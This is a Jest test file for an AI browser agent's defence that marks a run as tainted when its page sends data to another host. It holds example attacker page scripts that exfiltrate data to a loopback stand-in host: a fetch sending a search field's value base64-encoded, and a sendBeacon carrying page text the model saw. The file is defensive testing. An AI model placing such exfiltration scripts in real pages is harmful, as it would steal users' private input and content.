import { randomBytes } from 'node:crypto';

import type { TraceStep } from '../../server/agent/run/context';
import { plannerStrategy } from '../../server/agent/strategies';
import type { ScriptReply, ScriptTurn } from '../support/scripted-model-server';
import { attackRun, newOrg, publishPost, recordVerdict, storedTrajectory, strategyDeps, useAttackRig } from './planner-attack-support';

/**
 * Which blocked requests taint a run (server/agent/run/block-cause.ts), attacked for real on Orbit with the scripted model:
 * the page's own background request to another host (analytics) is blocked, listed in the trace as background, and
 * the run is still recorded for replay; a background request that carries a parameter value away (even encoded, even
 * after the tool that typed it has settled), or a beacon carrying page content the model saw, taints the run, so it
 * is never recorded. The page's script is played by page.evaluate (what any script of the page could run); the
 * attacker's loopback listener shows that nothing reached it either way.
 */
jest.setTimeout(40_000);

const rig = useAttackRig();

const READ_NAME = {
  path: '/',
  action: 'Which name does the Orbit home page greet me with?',
  responseFormat: { name: 'string - the full name shown for the signed-in member' },
};
const done: ScriptReply = { tool: 'done', args: { success: true, data: { name: 'Grace Goodwin' } } };

/**
 * Runs the planner with `script`, which gets the run's page (what the page's own script does while the model thinks)
 * and its trace (what the fence listed so far: the model answers once the page's request is listed, however long a
 * loaded machine takes, rather than after a fixed while).
 */
async function runWith(
  organizationId: string,
  script: (turn: ScriptTurn, n: number, page: Awaited<ReturnType<typeof attackRun>>['page'], trace: TraceStep[]) => ScriptReply,
  extra: { parameters?: Record<string, unknown>; action?: string } = {},
) {
  const run = await attackRun(rig.server, rig.browser, { organizationId, ...READ_NAME, ...extra });
  let n = 0;
  rig.model.setScript((t) => script(t, ++n, run.page, run.trace));
  const outcome = await plannerStrategy(strategyDeps(rig.server, rig.model)).run(run.ctx);
  return { ...run, outcome };
}

const blockedSteps = (trace: { tool: string; outcome: string; target?: string; error?: string }[]) =>
  trace.filter((s) => s.tool === 'request' && s.outcome === 'blocked');
/** Whether the trace lists a blocked request whose URL matches each of `urls`. */
const listed = (trace: TraceStep[], ...urls: RegExp[]) => urls.every((u) => blockedSteps(trace).some((s) => u.test(s.target ?? '')));

describe('blocked requests taint a run only when the run caused them', () => {
  it("lists the page's own background analytics as blocked noise, and still records the run for replay", async () => {
    const org = await newOrg(rig.server);
    const hits = rig.sink.hits.length;
    const run = await runWith(org, (_t, n, page, trace) => {
      if (n === 1) {
        // The page's analytics, on its own timer: a fetch and a pixel to another host, nothing of the run in them.
        void page
          .evaluate((sink) => {
            void fetch(`${sink}/collect?ev=page_view&sr=1280x900`, { mode: 'no-cors' }).catch(() => undefined);
            new Image().src = `${sink}/pixel.gif?cid=42`;
          }, rig.sink.url)
          .catch(() => undefined);
        return { until: () => listed(trace, /\/collect\?ev=page_view/, /\/pixel\.gif/), then: done };
      }
      return done;
    });

    expect(run.outcome.status).toBe('completed');
    const steps = blockedSteps(run.trace);
    expect(steps.map((s) => s.target)).toEqual(
      expect.arrayContaining([expect.stringContaining('/collect?ev=page_view'), expect.stringContaining('/pixel.gif')]),
    );
    for (const s of steps) expect(s.error).toMatch(/not the run's: not a taint/);
    expect(run.ctx.integrity.clean).toBe(true);
    expect(recordVerdict(run.trace)).toMatchObject({ outcome: 'ok' });
    expect(await storedTrajectory(rig.server, run.key)).not.toBeNull();
    expect(rig.sink.hits.length).toBe(hits);
  });

  it('taints a run whose page sends a parameter value to another host in a background fetch (base64, after the tool settled)', async () => {
    const org = await newOrg(rig.server);
    const note = `private-note-${randomBytes(6).toString('hex')}`;
    const hits = rig.sink.hits.length;
    const run = await runWith(
      org,
      (t, n, page, trace) => {
        if (n === 1)
          return {
            tool: 'type',
            args: { index: t.observation!.find('searchbox', 'Search people and posts'), text: '{{parameters.note}}' },
          };
        if (n === 2) {
          // Well after the type tool returned: the page's script reads the field and sends it away, encoded.
          void page
            .evaluate((sink) => {
              setTimeout(() => {
                const value = (document.querySelector('input[type="search"]') as HTMLInputElement | null)?.value ?? '';
                void fetch(`${sink}/c?d=${btoa(value)}`, { method: 'POST', mode: 'no-cors', body: 'ping' }).catch(() => undefined);
              }, 700);
            }, rig.sink.url)
            .catch(() => undefined);
          return { until: () => listed(trace, /\/c\?d=/), then: done };
        }
        return done;
      },
      { parameters: { note }, action: `Which name does the Orbit home page greet me with? (search for "${note}" first)` },
    );

    expect(run.outcome.status).toBe('completed');
    expect(blockedSteps(run.trace).find((s) => s.target?.includes('/c?d='))).toMatchObject({
      error: expect.not.stringMatching(/not a taint/),
    });
    expect(recordVerdict(run.trace)).toMatchObject({
      outcome: 'blocked',
      error: expect.stringMatching(/a request was blocked .*it carried a parameter value/),
    });
    expect(await storedTrajectory(rig.server, run.key)).toBeNull();
    expect(rig.sink.hits.length).toBe(hits);
  });

  it('taints a run whose page beacons away page-written content the model saw', async () => {
    const org = await newOrg(rig.server);
    const secret = `The offsite moves to Lisbon on May ${10 + (randomBytes(1)[0]! % 18)}`;
    await publishPost(rig.server, rig.browser, org, secret);
    const hits = rig.sink.hits.length;
    const run = await runWith(org, (t, n, page, trace) => {
      if (n === 1) {
        expect(t.lastUser).toContain(secret);
        void page
          .evaluate(
            ([sink, text]) => {
              navigator.sendBeacon(`${sink}/b`, JSON.stringify({ seen: text!.toUpperCase() }));
            },
            [rig.sink.url, 'offsite moves to Lisbon'],
          )
          .catch(() => undefined);
        return { until: () => listed(trace, /\/b$/), then: done };
      }
      return done;
    });

    expect(run.outcome.status).toBe('completed');
    expect(recordVerdict(run.trace)).toMatchObject({
      outcome: 'blocked',
      error: expect.stringMatching(/a request was blocked .*it carried page content the model saw/),
    });
    expect(await storedTrajectory(rig.server, run.key)).toBeNull();
    expect(rig.sink.hits.length).toBe(hits);
  });
});
